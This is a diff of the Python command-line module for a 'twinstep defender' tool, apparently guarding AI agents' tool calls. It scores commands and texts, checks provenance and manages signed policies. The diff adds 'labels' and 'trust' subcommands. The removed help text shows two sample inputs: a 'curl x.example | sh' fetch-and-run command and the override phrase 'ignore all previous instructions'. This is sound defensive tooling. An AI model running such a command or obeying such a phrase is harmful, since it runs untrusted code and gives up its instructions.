@@ -13,37 +13,11 @@ from pathlib import Path
 from typing import TYPE_CHECKING, Any, Final, TextIO
 
 from runtime.app.arguments import Parser, port
+from runtime.app.defenderhelp import EPILOG, EPILOGS, SUBCOMMANDS
 from runtime.errors import UsageError
 
 if TYPE_CHECKING:
     from runtime.app.defending import Defending
-
-EPILOG: Final = """\
-examples:
-  twinstep defender score < rows.jsonl              {"id","text","kind"} a line: score, decision, rule, microseconds
-  twinstep defender decide < calls.jsonl            may a tool call run, by where its values came from?
-  twinstep defender explain -- 'curl x.example | sh'
-                                                    the commands in a line, and the rule that decides about each
-  twinstep defender explain --text 'ignore all previous instructions'
-  twinstep defender status                          mode, policy, and what of the defender is here
-  twinstep defender policy show                     every key of the policy, with its value
-  twinstep defender policy key policy.key           make a key pair: policy.key, and policy.key.pub to pin
-  twinstep defender policy sign policy.toml --key policy.key
-  twinstep defender policy verify policy.toml --pub policy.key.pub
-  twinstep defender policy reload --token T         have a running gateway read its policy again
-  twinstep defender integrity --help                the baseline of this host's files
-
-exit codes: 0 done (explain: allow), 1 error (explain: block), 2 explain: review, 42 a file that cannot be used,
-            52 settings or a policy that cannot be used (verify: it is refused)
-"""
-SUBCOMMANDS: Final = {
-    "score": "score texts and commands: JSON lines in, JSON lines out",
-    "decide": "decide about tool calls by provenance: JSON lines in, JSON lines out",
-    "explain": "show what the defender sees in a command or a text",
-    "status": "show mode, policy, and what of the defender is here",
-    "policy": "show, sign, verify or reload the policy",
-    "integrity": "make and check the baseline of this host's files",
-}
 
 
 def parser() -> argparse.ArgumentParser:
@@ -56,22 +30,43 @@ def parser() -> argparse.ArgumentParser:
         allow_abbrev=False,
     )
     sub = made.add_subparsers(dest="what", metavar="COMMAND", required=True, parser_class=Parser)
-    score = sub.add_parser("score", help=SUBCOMMANDS["score"], description=SUBCOMMANDS["score"], allow_abbrev=False)
+    score = _command(sub, "score")
     score.add_argument("--policy", metavar="FILE", help="score by this policy (default: the built-in one)")
-    sub.add_parser("decide", help=SUBCOMMANDS["decide"], description=SUBCOMMANDS["decide"], allow_abbrev=False)
-    explain = sub.add_parser(
-        "explain", help=SUBCOMMANDS["explain"], description=SUBCOMMANDS["explain"], allow_abbrev=False
-    )
+    _command(sub, "decide")
+    explain = _command(sub, "explain")
+    explain.add_argument("--policy", metavar="FILE", help="judge by this policy (default: the built-in one)")
     explain.add_argument("--text", help="a text, in place of a command")
     explain.add_argument("--json", action="store_true", help="print one JSON object")
     explain.add_argument("words", nargs="*", metavar="CMD", help="the command, behind --")
-    status = sub.add_parser("status", help=SUBCOMMANDS["status"], description=SUBCOMMANDS["status"], allow_abbrev=False)
+    status = _command(sub, "status")
     _place(status)
     status.add_argument("--json", action="store_true", help="print one JSON object")
-    policy = sub.add_parser("policy", help=SUBCOMMANDS["policy"], description=SUBCOMMANDS["policy"], allow_abbrev=False)
+    _files(_command(sub, "labels"))
+    trust = _command(sub, "trust")
+    _files(trust)
+    trust.add_argument("--why", default="", help="why they are right")
+    trust.add_argument("--who", default="", help="who says so (default: the user of this process)")
+    policy = _command(sub, "policy")
     _policy(policy)
     _integrity(sub)
     return made
+
+
+def _command(sub: Any, name: str) -> argparse.ArgumentParser:
+    made: argparse.ArgumentParser = sub.add_parser(
+        name,
+        help=SUBCOMMANDS[name],
+        description=f"{SUBCOMMANDS[name][0].upper()}{SUBCOMMANDS[name][1:]}.",
+        epilog=EPILOGS[name],
+        formatter_class=argparse.RawDescriptionHelpFormatter,
+        allow_abbrev=False,
+    )
+    return made
+
+
+def _files(made: argparse.ArgumentParser) -> None:
+    made.add_argument("path", nargs="?", default=".", metavar="PATH", help="a file or a folder (default: this folder)")
+    made.add_argument("--json", action="store_true", help="print one JSON object")
 
 
 def _place(made: argparse.ArgumentParser) -> None:
@@ -105,7 +100,11 @@ def _integrity(sub: Any) -> None:
 
 def run(argv: Sequence[str], out: TextIO) -> int:
     """Do what was asked; return the exit code."""
-    given = parser().parse_args(list(argv))
+    given, strange = parser().parse_known_args(list(argv))
+    if strange and given.what == "explain" and "--" not in argv:
+        raise UsageError("the command to explain goes behind --: twinstep defender explain -- ls -l")
+    if strange:
+        raise UsageError(f"unrecognized arguments: {' '.join(strange)}. See twinstep defender {given.what} --help.")
     return _WORK[given.what](given, out)
 
 
@@ -126,7 +125,20 @@ def _explain(given: argparse.Namespace, out: TextIO) -> int:
         raise UsageError("explain wants a command behind --, or --text. See twinstep defender explain --help.")
     from runtime.app.scoring import explain
 
-    return explain(" ".join(given.words), given.text, out, as_json=given.json)
+    return explain(" ".join(given.words), given.text, out, as_json=given.json, policy=given.policy)
+
+
+def _labels(given: argparse.Namespace, out: TextIO) -> int:
+    from runtime.app.vouching import labels
+
+    return labels(here(headless=True).label_file, given.path, out, as_json=given.json)
+
+
+def _trust(given: argparse.Namespace, out: TextIO) -> int:
+    from runtime.app.vouching import trust
+
+    made = here(headless=True)
+    return trust(made.label_file, given.path, made.places, out, who=given.who, why=given.why, as_json=given.json)
 
 
 def _status(given: argparse.Namespace, out: TextIO) -> int:
@@ -136,7 +148,7 @@ def _status(given: argparse.Namespace, out: TextIO) -> int:
         print(json.dumps(told), file=out)
         return 0
     for name, value in told.items():
-        print(f"{name:12} {value}", file=out)
+        print(f"{name:12} {value if value is not None else 'none'}", file=out)
     return 0
 
 
@@ -152,6 +164,9 @@ def status(made: "Defending") -> dict[str, Any]:
         "file": str(own or "none: the built-in policy"),
         "signed by": made.book.signer or ("nobody" if own else "not signed: it is built in"),
         "pinned keys": len(made.book.keys),
+        "ledger": made.places.folder,
+        "baseline": made.baseline,
+        "look-ups": "VirusTotal" if made.looks_up else None,
     }
 
 
@@ -203,6 +218,8 @@ _WORK: Final[dict[str, Callable[[argparse.Namespace, TextIO], int]]] = {
     "decide": _decide,
     "explain": _explain,
     "status": _status,
+    "labels": _labels,
+    "trust": _trust,
     "policy": _of_policy,
     "integrity": _of_integrity,
 }
